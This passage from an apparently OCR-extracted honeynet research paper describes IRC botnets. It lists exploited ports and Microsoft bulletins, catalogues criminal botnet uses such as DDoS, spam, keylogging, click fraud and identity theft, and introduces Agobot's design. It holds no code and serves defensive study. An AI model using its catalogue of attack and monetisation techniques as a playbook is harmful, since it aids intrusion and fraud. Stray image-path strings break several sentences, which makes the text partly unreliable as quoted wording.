and 2000 represent the most affected software versions. Clearly most of theactivity on the ports
listed above is caused by systems with Windows XP (often running Service Pack 1), followed by
systems with Windows 2000. Far behind, systems running Windows 2003 or Windows 95/98

But what are the real causes of these malicious packets? Who and what is responsible for them?
And can we do something to prevent them? In this paper we want to show the background of this
traffic and further elaborate the causes. We show how attackers use IRC bots to control and build
networks of compromised machines (botnet) to further enhance the effectiveness of their work.
We use classical GenII-Honeynets with some minor modifications to learn some key
information, for example the IP address of a botnet server or IRC channel name and password.
This information allows us to connect to the botnet and observe all the commands issued by the
attacker. At times we are even able to monitor their communication and thus learn more about
their motives and social behavior. In addition, we give some statistics on the quantitative
information we have learned through monitoring of more than one hundred botnets during the
last few months. Several examples of captured activities by attackers substantiate our

For this research, a Honeynet of only three machines was used. One dial-in hostwithin the
network of the German ISP T-Online, one dial-in within the network of the German ISP
NetCologne and one machine deployed at RWTH Aachen University. The hosts in the network
of the university runs an unpatched version of Windows 2000 and is located behind a Honeywall.
The dial-in hosts run a newly developed software called mwcollectd2, designed to capture
malware. We monitor the botnet activity with our own IRC client called drone. Both are
discussed in greater detail later in this paper.

Almost all Bots use a tiny collection of exploits to spread further. Since the Bots are constantly
attempting to compromise more machines, they generate noticeable traffic within a network.
Normally bots try to exploit well-known vulnerabilities. Beside from the ports used for resource
sharing as listed above, bots often use vulnerability-specific ports. Examples of these ports

     42 - WINS (Host Name Server)
     80 - www (vulnerabilities in Internet Information Server 4 / 5 or Apache)
     903 - NetDevil Backdoor
     1025 - Microsoft Remote Procedure Call (RPC) service and Windows Messenger port
     1433 - ms-sql-s (Microsoft-SQL-Server)
     2745 - backdoor of Bagle worm (mass-mailing worm)
     3127 - backdoor of MyDoom worm (mass-mailing worm)

     3306 - MySQL UDF Weakness
     3410 - vulnerability in Optix Pro remote access trojan (Optix Backdoor)
     5000 - upnp (Universal Plug and Play: MS01-059 - Unchecked Buffer in Universal Plug
       and Play can Lead to System Compromise)
     6129 - dameware (Dameware Remote Admin - DameWare Mini Remote Control Client
       Agent Service Pre-Authentication Buffer Overflow Vulnerability)

The vulnerabilities behind some of these exploits can be found with the help of a search on
Microsoft's Security bulletins (sample):

     MS03-007 Unchecked BufferIn Windows Component Could Cause Server Compromise
     MS03-026 Buffer Overrun In RPC Interface Could Allow Code Execution
     MS04-011 Security Update for Microsoft Windows
     MS04-045 Vulnerability in WINS Could Allow Remote Code Execution

Uses of botnets
"A botnet is comparable to compulsory military service for windows boxes" - Stromberg

A botnet is nothing more then a tool, there are as many different motives for using them as there
are people. The most common uses were criminally motivated (i.e. monetary) or for destructive
purposes. Based on the data we captured, the possibilities to use botnets can be categorized as
listed below. And since a botnet is nothing more then a tool, there are most likely other potential
uses that we have not listed.

   1. Distributed Denial-of-Service Attacks
      Often botnets are used for Distributed Denial-of-Service (DDoS) attacks. A DDoS attack
      is an attack on a computer system or network that causes a loss of service to users,
      typically the loss of network connectivity and services by consuming the bandwidth of
      the victim network or overloading the computational resources of the victim system. In
      addition, the resources on the path are exhausted if the DDoS-attack causes many packets
      per second (pps). Each bot we have analyzed so far includes several different possibilities
      to carry out a DDoS attack against other hosts. Most commonly implemented and also
      very often used are TCP SYN and UDP flood attacks. Script kiddies apparently consider
      DDoS an appropriate solution to every social problem.

       Further research showed that botnets are even used to run commercial DDoS attacks
       against competing corporations:Operation Cyberslam documents the story of Jay R.
       Echouafni and Joshua Schichtel alias EMP. Echouafni was indicted on August 25, 2004
       on multiple charges of conspiracy and causing damage to protected computers. He
       worked closely together with EMP who ran a botnet to send bulk mail and also carried
       out DDoS attacks against the spam blacklist servers. In addition, they took Speedera - a
       global on-demand computing platform - offline when they ran a paid DDoS attack to take
       a competitor's website down.
       Note that DDoS attacks are not limited to web servers, virtually any service available on
       the Internet can be the target of such an attack. Higher-level protocols can be used to

   increase the load even more effectively by using very specific attacks, such as running
   exhausting search queries on bulletin boards or recursive HTTP-floods on the victim's
   website. Recursive HTTP-flood means that the bots start from a given HTTP link and
   then follows all links on the provided website in arecursive way. This is also called

2. Spamming
   Some bots offer the possibility to open a SOCKS v4/v5 proxy - a generic proxy protocol
   for TCP/IP-based networking applications (RFC 1928) - on a compromised machine.
   After having enabled the SOCKS proxy, this machine can then be used for nefarious
   tasks such as spamming. With the help of a botnet and thousands of bots, an attacker is
   able to send massive amounts of bulk email (spam). Some bots also implement a special
   function to harvest email-addresses. Often that spam you are receiving was sent from, or
   proxied through, grandma's old Windows computer sitting at home. In addition, this can
   of course also be used to send phishing-mails since phishing is a special case of spam.
3. Sniffing Traffic
   Bots can also use a packet sniffer to watch for interesting clear-text data passing by a
   compromised machine. The sniffers are mostly used to retrieve sensitive information like
   usernames and passwords. But the sniffed data can also contain other interesting
   information. If a machine is compromised more than once and also a member of more
   than one botnet, the packet sniffing allows to gather the key information of the other
   botnet. Thus it is possible to "steal" another botnet.
4. Keylogging
   If the compromised machine uses encrypted communication channels (e.g. HTTPS or
   POP3S), then just sniffing the network packets on the victim's computer is useless since
   the appropriate key to decrypt the packets is missing. But most bots also offer features to
   help in this situation. With the help of a keylogger it is very easy for an attacker to
   retrieve sensitive information. An implemented filtering mechanism (e.g. "I am only
   interested in key sequences near the keyword ''") further helps in stealing
   secret data. And if you imagine that this keylogger runs on thousands of compromisedmachines in parallel you can imagine how quickly PayPal accounts are harvested.
5. Spreading new malware
   In most cases, botnets are used to spread new bots. This is very easy since all bots
   implement mechanisms to download and execute a file via HTTP or FTP. But spreading
   an email virususing a botnet is a very nice idea, too. A botnet with 10.000 hosts which
   acts as the start base for the mail virus allows very fast spreading and thus causes more
   harm. The Witty worm, which attacked the ICQ protocol parsing implementation in
   Internet Security Systems (ISS) products is suspected to have been initially launched by a
   botnet due to the fact that the attacking hosts were not running any ISS services.
6. Installing Advertisement Addons and Browser Helper Objects (BHOs)
   Botnets can also be used to gain financial advantages. This works by setting up a fake
   website with some advertisements: The operator of this websitenegotiates a deal with
   some hosting companies that pay for clicks on ads. With the help of a botnet, these clicks
   can be "automated" so that instantly a few thousand bots click on the pop-ups. This
   process can be further enhanced if the bot hijacks the start-page of a compromised
   machine so that the "clicks" are executed each time the victim uses the browser.

   7. Google AdSense abuse
       A similar abuse is also possible with Google's AdSense program: AdSense offers
       companies the possibility to display Google advertisements on their own website and
       earn money this way. The company earns money due to clicks on these ads, for example
       per 10.000 clicks in one month. An attacker can abuse this program by leveraging his
       botnet to click on these advertisements in an automated fashion and thus artificially
       increments the click counter. This kind of usage for botnets is relatively uncommon, but
       not a bad idea from an attacker's perspective.
   8. Attacking IRC Chat Networks
       Botnets are also used for attacks against Internet Relay Chat (IRC) networks. Popular
       among attackers is especially the so called "clone attack": In this kind of attack,the
       controller orders each bot to connect a large number of clones to the victim IRC network.
       The victim is flooded by service request from thousands of bots or thousands of channel-
       joins by these cloned bots. In this way, the victim IRC network is brought down - similar
       to a DDoS attack.
   9. Manipulating online polls/games
       Online polls/games are getting more and more attention and it is rather easy to
       manipulate them with botnets. Since every bot has a distinct IP address, every vote will
       have the same credibility as a vote cast by a real person. Online games can be
       manipulated in a similar way. Currently we are aware of bots being used that way, and
       there is a chance that this will get more important in the future.
   10. Mass identity theft
       Often the combination of different functionality described above can be used for largescale identity theft, one of the fastest growing crimes on the Internet. Bogus emails
       ("phishing mails") that pretend to be legitimate (such as fake PayPal or banking emails)
       ask their intended victims togo online and submit their private information. These fake
       emails are generated and sent by bots via their spamming mechanism. These same bots
       can also host multiple fake websites pretending to be Ebay, PayPal, or a bank, and
       harvest personal information. Just as quickly as one of these fake sites is shut down,
       another one can pop up. In addition, keylogging and sniffing of traffic can also be used
       for identity theft.

This list demonstrates that attackers can cause a great deal of harm or criminal activity with the
help of botnets. Many of these attacks - especially DDoS attacks - pose severe threats to other
systems and are hard to prevent. In addition, we are sure there are many other uses we have yet
to discover. As a result, we need a way to learn more about this threat, learn how attackers
usually behave and develop techniques to battle against them.Honeynets can help us in all three

   1. With the help of honeynets we are able to learn some key information (e.g. IP address of
      the server or nickname of the bot) that enable us to observe botnets. We can "collect"binaries of bots and extract the sensitive information in a semi-automated fashion with
      the help of a classical Honeywall.
   2. We are able to monitor the typical commands issued byattackers and sometimes we can
      even capture their communication. This helps us in learning more about the motives of
      attackers and their tactics.

   3. An automated method to catch information about botnets and a mechanism to effectively
      track botnets can even help to fight against botnets.

After we have introduced and analyzed some of the most popular bots in the next Section, we are
going to present a technique to track botnets.

Different Types of Bots
During our research, we found many different types of bots in the wild. Inthis section we present
some of the more widespread and well-known bots. We introduce the basic concepts of each
piece of malware and furthermore describe some of the features in more detail. In addition, we
show several examples of source code from bots and list parts of their command set.

     Agobot/Phatbot/Forbot/XtremBot
       This is probably the best known bot. Currently, the AV vendor Sophos lists more than
       500 known different versions of Agobot (Sophos virus analyses) and this number is
       steadily increasing. The bot itself is written in C++ with cross-platform capabilities and
       the source code is put under the GPL. Agobot was written by Ago alias Wonk, a youngGerman man who was arrested in May 2004 for computer crime. The latest available
       versions of Agobot are written in tidy C++ and show a really high abstract design. The
       bot is structured in a very modular way, and it is very easy to add commands or scanners
       for other vulnerabilities: Simply extend the CCommandHandler or CScanner class and add
       your feature. Agobot uses libpcap (a packet sniffing library) and Perl Compatible Regular
       Expressions (PCRE) to sniff and sort traffic. Agobot can use NTFS Alternate Data
       Stream (ADS) and offers Rootkit capabilities like file and process hiding to hide it's own
       presence on a compromised host. Furthermore, reverse engineering this malware is
       harder since it includes functions to detect debuggers (e.g. SoftICE and OllyDbg) and
